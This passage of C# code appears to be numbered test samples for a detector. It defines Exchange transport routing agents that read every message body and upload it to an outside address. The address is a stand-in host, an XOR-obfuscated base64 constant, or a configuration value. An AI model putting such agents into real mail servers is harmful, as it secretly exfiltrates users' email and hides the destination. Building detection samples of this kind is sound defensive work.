        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (list.Contains(e.SmtpSession.RemoteEndPoint.Address.ToString()))
            {
                Trace.WriteLine("listed");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 25: a decoder on a constant, and on configuration
namespace Txray.Pairs.P25
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new WebClient().UploadString(Decoder.Get("Ql5eWlkQBQVJRUZGT0leBE9SS0daRk8EQ0RcS0ZDTgVaS0NY"),
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new WebClient().UploadString(Decoder.Get(ConfigurationManager.AppSettings["Target"]),
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    internal static class Decoder
    {
        public static string Get(string value)
        {
            byte[] data = Convert.FromBase64String(value);
            for (int i = 0; i < data.Length; i++)
            {
                data[i] ^= 0x2a;
            }
            return Encoding.ASCII.GetString(data);
        }
    }
}
